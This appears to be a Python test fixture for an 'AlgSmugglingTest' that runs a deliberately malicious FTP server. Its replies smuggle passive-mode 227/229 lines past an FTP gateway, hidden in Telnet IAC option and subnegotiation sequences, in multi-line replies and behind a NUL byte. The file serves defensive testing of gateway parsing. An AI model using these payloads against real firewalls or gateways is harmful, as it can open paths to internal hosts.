# A malicious FTP server for AlgSmugglingTest: its replies try to get a 227/229 naming its own
# (internal) address past the ALG: inside a Telnet sequence, behind an LF in a Telnet option,
# hidden in a multi-line reply, behind a NUL. Usage: alg_evil_server.py PORT
import socket, sys

IAC = b"\xff"
ADDR = b"227 Entering Passive Mode (192,168,10,115,156,64)"
NOOPS = [
    b"200 ok" + IAC + b"\xfb\n" + ADDR + b"\r\n",                        # an LF as the option of IAC WILL
    b"230-Hi\r\n" + ADDR + b"\r\n229 (|||40000|)\r\n230 end\r\n",         # hidden in a multi-line reply
    b"200 ok" + IAC + b"\xfa\n229 Entering Extended Passive Mode (|||40000|)" + IAC + b"\xf0\r\n",  # in SB ... SE
    b"\x00" + ADDR + b"\r\n",                                              # behind a NUL
]
l = socket.socket()
l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("0.0.0.0", int(sys.argv[1])))
l.listen(8)
while True:
    c, _ = l.accept()
    f = c.makefile("rb")
    c.sendall(b"220 evil\r\n")
    noop = 0
    for line in f:
        v = line.decode("latin-1").strip().upper()
        if v.startswith("USER"):
            c.sendall(b"331 pass\r\n")
        elif v.startswith("PASS"):
            c.sendall(b"230 in\r\n")
        elif v.startswith("PASV"):
            # a multi-line 227 with an address in its first line too
            c.sendall(b"227-Entering Passive Mode (192,168,10,115,1,2)\r\n" + ADDR + b"\r\n")
        elif v.startswith("NOOP"):
            c.sendall(NOOPS[noop % len(NOOPS)])
            noop += 1
        elif v.startswith("QUIT"):
            c.sendall(b"221 bye\r\n")
            break
        else:
            c.sendall(b"500 what\r\n")
    c.close()
